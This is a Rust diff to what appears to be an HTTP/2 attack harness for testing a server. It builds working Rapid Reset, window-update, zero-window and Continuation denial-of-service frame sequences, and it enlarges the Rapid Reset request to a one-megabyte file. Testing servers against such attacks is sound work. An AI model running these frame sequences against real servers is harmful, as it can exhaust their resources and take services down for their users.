@@ -136,7 +136,13 @@ impl Attacker {
     /// What a connection begins with.
     fn first(&self, victim: &mut Victim) -> Vec<u8> {
         let mut bytes = Vec::new();
-        http2::preface(&mut bytes);
+        match self.attack {
+            // Its responses have to be on their way when it resets them, so the windows stay as small as they are.
+            Attack::RapidReset => http2::preface_with(&mut bytes, &[]),
+            // A larger one would be full after a few updates, which is another fault.
+            Attack::WindowUpdates => http2::preface_with(&mut bytes, &[]),
+            _ => http2::preface(&mut bytes),
+        }
         let stream = victim.next;
         match self.attack {
             Attack::Continuation | Attack::EmptyContinuation => {
@@ -171,7 +177,7 @@ impl Attacker {
             let stream = victim.next;
             match self.attack {
                 Attack::RapidReset => {
-                    let section = get("/hot/4096.bin");
+                    let section = get("/hot/1000000.bin");
                     frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &section);
                     frame(bytes, RST_STREAM, 0, stream, &[0, 0, 0, 8]);
                     victim.next += 2;
@@ -266,8 +272,7 @@ fn long_headers(bytes: &mut Vec<u8>, victim: &mut Victim) {
 /// Requests of which no byte of a body may be answered.
 fn zero_windows() -> Vec<u8> {
     let mut bytes = Vec::new();
-    http2::preface(&mut bytes);
-    frame(&mut bytes, SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
+    http2::preface_with(&mut bytes, &[(http2::INITIAL_WINDOW_SIZE, 0)]);
     for number in 0..HELD_STREAMS {
         let flags = END_HEADERS | END_STREAM;
         frame(
